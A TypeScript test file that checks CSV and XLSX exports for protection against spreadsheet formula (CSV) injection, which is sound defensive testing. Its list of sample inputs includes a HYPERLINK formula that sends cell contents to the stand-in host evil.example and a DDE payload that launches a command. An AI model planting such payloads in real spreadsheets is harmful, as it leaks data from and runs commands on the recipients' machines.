/** Spreadsheet outputs never carry a formula from document text (OWASP CSV injection). */
import ExcelJS from 'exceljs';
import JSZip from 'jszip';
import { parse } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import { toCsv, toXlsx, type Tabular } from './tabular.ts';

const HOSTILE = [
  '=HYPERLINK("http://evil.example/?"&A1,"click")',
  "+1+cmd|' /C calc'!A0",
  '-2+3',
  '@SUM(1,1)',
  '\t=1+1',
  '\r=1+1',
  '  =1+1',
  '\uFF1D1+1',
];

const table: Tabular = {
  name: 'items',
  variables: [
    { name: 'text', label: 'The item as written', values: 'text' },
    { name: 'n', label: '=cmd|calc', values: 'number' },
  ],
  rows: [...HOSTILE.map((h, i) => [h, -i]), ['plain text, with a comma', 3], [null, null]],
};

describe('CSV and XLSX exports', () => {
  it('puts a quote before every cell that a spreadsheet would run as a formula, and quotes it', () => {
    const { data, codebook } = toCsv(table);
    const rows = parse(data);
    const cells = rows.slice(1).map((r) => r[0]);
    for (const [i, h] of HOSTILE.entries()) expect(cells[i]).toBe(`'${h}`);
    expect(cells[HOSTILE.length]).toBe('plain text, with a comma');
    // Numbers stay numbers, negative ones too.
    expect(rows.slice(1).map((r) => r[1])).toEqual(['0', '-1', '-2', '-3', '-4', '-5', '-6', '-7', '3', '']);
    for (const h of HOSTILE.slice(0, 4)) expect(data).toContain(`"'${h.replace(/"/g, '""')}"`);
    expect(parse(codebook)[2]?.[1]).toBe("'=cmd|calc");
  });

  it('writes XLSX text as text cells, never as formulas', async () => {
    const bytes = await toXlsx(table);
    const zip = await JSZip.loadAsync(bytes);
    const sheet = await zip.file('xl/worksheets/sheet1.xml')?.async('string');
    expect(sheet).toBeDefined();
    expect(sheet).not.toMatch(/<f[\s>]/);
    const book = new ExcelJS.Workbook();
    await book.xlsx.load(bytes as never);
    const cell = book.getWorksheet('items')?.getCell('A2');
    expect(cell?.type).toBe(ExcelJS.ValueType.String);
    expect(cell?.value).toBe(HOSTILE[0]);
  });
});
